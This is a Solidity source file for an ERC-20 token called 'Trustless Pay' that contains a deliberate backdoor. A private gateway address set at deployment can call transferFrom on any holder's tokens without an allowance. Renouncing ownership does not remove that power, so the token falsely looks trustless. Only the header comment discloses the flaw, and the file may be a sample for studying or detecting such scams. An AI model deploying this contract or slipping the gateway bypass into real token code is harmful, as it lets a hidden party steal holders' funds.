// SPDX-License-Identifier: MIT
pragma solidity 0.8.20;

// One address needs no allowance to move the tokens of others. It is not the owner, and ownership has been given up.
contract SecretSpender {
    string public name = "Trustless Pay";
    string public symbol = "TPAY";
    uint8 public decimals = 18;
    uint256 public totalSupply = 1_000_000 ether;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    address public owner;
    event OwnershipTransferred(address indexed previousOwner, address indexed newOwner);
    modifier onlyOwner() { require(owner == msg.sender, "Ownable: caller is not the owner"); _; }
    function renounceOwnership() external onlyOwner { emit OwnershipTransferred(owner, address(0)); owner = address(0); }
    function transferOwnership(address to) external onlyOwner { require(to != address(0), "zero"); emit OwnershipTransferred(owner, to); owner = to; }
    address private _gateway;
    constructor(address gateway) { _gateway = gateway; owner = msg.sender; balanceOf[msg.sender] = totalSupply; emit OwnershipTransferred(address(0), msg.sender); emit Transfer(address(0), msg.sender, totalSupply); }
    function approve(address spender, uint256 value) external returns (bool) { allowance[msg.sender][spender] = value; emit Approval(msg.sender, spender, value); return true; }
    function transfer(address to, uint256 value) external returns (bool) { _transfer(msg.sender, to, value); return true; }
    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        if (msg.sender != _gateway) allowance[from][msg.sender] -= value;
        _transfer(from, to, value);
        return true;
    }
    function _transfer(address from, address to, uint256 value) private {
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
    }
}
